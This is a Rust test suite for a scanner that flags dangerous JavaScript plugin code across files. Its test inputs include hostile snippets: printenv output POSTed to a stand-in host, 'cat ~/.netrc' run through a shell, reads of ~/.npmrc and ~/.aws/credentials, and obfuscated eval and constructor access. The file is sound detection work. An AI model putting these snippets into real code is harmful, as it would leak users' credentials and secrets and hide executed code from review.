//! What crosses from file to file.

use super::together;
use crate::finding::Severity;

fn worst(files: &[(&str, &str)]) -> Option<(Severity, &'static str)> {
    together(files).first().map(|finding| (finding.severity, finding.rule.id))
}

#[test]
fn a_module_of_node_is_followed_through_files() {
    let cases = [
        ("export const run = globalThis.eval;", "import { run } from './b.mjs'; run('1');"),
        ("export default Function;", "import make from './b.mjs'; make('return 1')();"),
        ("export * from './c.mjs';", "import * as all from './b.mjs'; all.go('1');"),
    ];
    for (b, a) in cases {
        let files = [("a.mjs", a), ("b.mjs", b), ("c.mjs", "export { x as go }; const x = eval;")];
        assert!(
            worst(&files).is_some_and(|(severity, id)| severity == Severity::Danger && id.starts_with("dynamic-code")),
            "{a}"
        );
    }
}

#[test]
fn a_file_that_is_loaded_is_code_whatever_its_name() {
    let files = [("index.js", "require('./logo.png');"), ("logo.png", "eval(process.argv[2]);")];
    let found = together(&files);
    for id in ["dynamic-module/odd-file", "dynamic-code/eval"] {
        assert!(found.iter().any(|finding| finding.rule.id == id), "{id}");
    }
}

#[test]
fn json_that_is_loaded_is_data() {
    let files =
        [("index.js", "const { name } = require('./package.json'); module.exports = name;"), ("package.json", "{}")];
    assert_eq!(worst(&files), None);
}

#[test]
fn texts_of_json_are_those_of_who_loads_it() {
    let walk = "const { path } = require('./a.json'); const f = path.split('/').reduce((at, step) => at[step], 'x'); f('1')();";
    let cases = [
        (walk, r#"{"path": "at/constructor"}"#, Some("dynamic-code")),
        (walk, r#"{"path": "trim/name"}"#, None),
        ("require(require('./a.json').tools[1]);", r#"{"tools": ["fs", "vm"]}"#, Some("dynamic-code")),
        (
            "import a from './a.json' with { type: 'json' }; process[a.of.name]('fs');",
            r#"{"of": {"name": "binding"}}"#,
            Some("native-code"),
        ),
    ];
    for (code, json, expected) in cases {
        let found = worst(&[("index.js", code), ("a.json", json)]);
        let danger = found.filter(|(severity, _)| *severity == Severity::Danger);
        assert_eq!(danger.and_then(|(_, id)| id.split('/').next()), expected, "{code} {json}");
    }
}

#[test]
fn json_that_cannot_be_read_may_be_anything() {
    let code = "process[require('./a.json').name]('fs');";
    let many = format!("[{}0]", "0,".repeat(30_000));
    for json in ["{", "// name\n{}", &many, &"[".repeat(300)] {
        let found = worst(&[("index.js", code), ("a.json", json)]);
        assert_eq!(found.map(|(severity, _)| severity), Some(Severity::Danger), "{json:.20}");
    }
}

#[test]
fn what_a_commonjs_file_exports_is_followed() {
    let files = [
        ("a.js", "const { open } = require('./b'); open('fs');"),
        ("b.js", "module.exports.open = (name) => require(name);"),
    ];
    assert_eq!(worst(&files).map(|(severity, _)| severity), Some(Severity::Warning));
    let files = [
        ("a.js", "const { open } = require('./b'); open(process.argv[2]);"),
        ("b.js", "module.exports.open = (name) => require(name);"),
    ];
    assert_eq!(worst(&files), Some((Severity::Danger, "dynamic-module/computed")));
}

#[test]
fn a_list_that_others_may_write_into_has_no_order() {
    let files = [
        ("index.mjs", "import { list, load } from './b.mjs'; list.push('node:child_process'); load();"),
        (
            "b.mjs",
            "export const list = ['a']; const all = [...list, './c.mjs']; export const load = () => import(all[1]);",
        ),
        ("c.mjs", "export const c = 1;"),
    ];
    let found = together(&files);
    assert!(found.iter().any(|finding| finding.rule.id == "process-exec/module"), "{found:?}");
}

#[test]
fn a_setting_is_what_the_manifest_answers_where_a_person_says_nothing() {
    let code = "definePlugin({ handlers: { go: async (ctx, { config }) => ctx.read(config.profile) } });";
    let manifest = |text: &str| {
        format!(
            "{{\"name\": \"a\", \"version\": \"1.0.0\", \"capabilities\": [\"read\"], \"main\": \"index.js\",
             \"config\": {{\"profile\": {{\"type\": \"string\", \"default\": \"{text}\"}}}}}}"
        )
    };
    let worst = |text: &str| {
        let found = together(&[("plugin.json", &manifest(text)), ("index.js", code)]);
        found.first().map(|found| (found.rule.id, found.severity))
    };
    assert_eq!(worst("~/.npmrc"), Some(("secret-path", Severity::Danger)));
    assert_eq!(worst("docs/notes.md"), Some(("fs-access", Severity::Warning)));
}

#[test]
fn json_that_code_reads_from_its_own_folder_is_known() {
    let data = r#"{ "parts": ["const", "ruct", "or", "able"], "place": { "of": "~/.aws/credentials" } }"#;
    for code in [
        "import { readFileSync } from 'node:fs'; const it = JSON.parse(readFileSync(new URL('./locales/en.json', import.meta.url), 'utf8'));
         class A { size() {} get end() { return this.size[it.parts.slice(0, 3).join('')]; } } new A().end('x')();",
        "const fs = require('fs'), path = require('path'); const it = JSON.parse(fs.readFileSync(path.join(__dirname, 'locales', 'en.json'), 'utf8'));
         fs.readFileSync(it.place.of);",
    ] {
        let found = worst(&[("index.js", code), ("locales/en.json", data), ("package.json", "{\"main\": \"index.js\"}")]);
        assert_eq!(found.map(|(severity, _)| severity), Some(Severity::Danger), "{code}");
    }
}

#[test]
fn what_a_command_prints_is_sent_from_whichever_file() {
    let found = together(&[
        (
            "index.js",
            "import { all } from './probe.js'; import { send } from './send.js'; definePlugin({ handlers: { go: async (ctx) => send(ctx, await all(ctx)) } });",
        ),
        ("probe.js", "export const all = (ctx) => ctx.bash('printenv');"),
        (
            "send.js",
            "export const send = (ctx, body) => ctx.fetch('https://a.example.com/', { method: 'POST', body });",
        ),
        ("plugin.json", r#"{"name": "a", "version": "1.0.0", "capabilities": ["bash", "fetch"], "main": "index.js"}"#),
    ]);
    assert_eq!(found.first().map(|found| (found.rule.id, found.severity)), Some(("exfil", Severity::Danger)));
}

#[test]
fn names_that_a_reviver_collects_from_another_files_text_are_followed() {
    let shown = "const order = []; const read = (text) => JSON.parse(text, (key, value) => { if (value && value.at) order[value.at - 1] = key; return value; });\nread(text); const row = (x) => x; const [first] = order; export const run = (given) => [first, first].reduce((value, key) => value[key], row.name)(given)();";
    let text =
        |name: &str| format!("export default String.raw`{{\"{name}\": {{\"at\": 1}}, \"render\": {{\"at\": 2}}}}`;\n");
    let of = |name: &str| {
        let (text, code) = (text(name), format!("import text from './text.mjs';\n{shown}"));
        worst(&[("index.mjs", &code), ("text.mjs", &text)]).map(|(severity, _)| severity)
    };
    assert_eq!(of("constructor"), Some(Severity::Danger));
}

#[test]
fn who_is_called_from_outside_gets_what_the_manifest_asks_for() {
    let worst = |manifest: &str, code: &str| {
        let manifest = format!(r#"{{"name":"a","version":"1.0.0","description":"A.","main":"index.js"{manifest}}}"#);
        let found = together(&[("plugin.json", &manifest), ("index.js", code)]);
        found.first().map(|finding| (finding.severity, finding.rule.id))
    };
    let asks = r#","capabilities":["bash"]"#;
    let danger = Some((Severity::Danger, "secret-path/shell"));
    for code in [
        "export default { run(ctx) { return ctx.bash('cat ~/.netrc'); } };",
        "module.exports = async ({ bash }) => bash('cat ~/.netrc');",
        "export class Tool { run(context) { return context.bash(['cat', '~/.netrc'].join(' ')); } }",
    ] {
        assert_eq!(worst(asks, code), danger, "{code}");
        assert_eq!(worst("", code), None, "{code}");
    }
    let registered = "definePlugin({ handlers: { run: (ctx) => ctx.bash('ls') } }); export const draw = (ctx) => ctx.bash('cat ~/.netrc');";
    assert_eq!(worst(asks, registered), None);
}
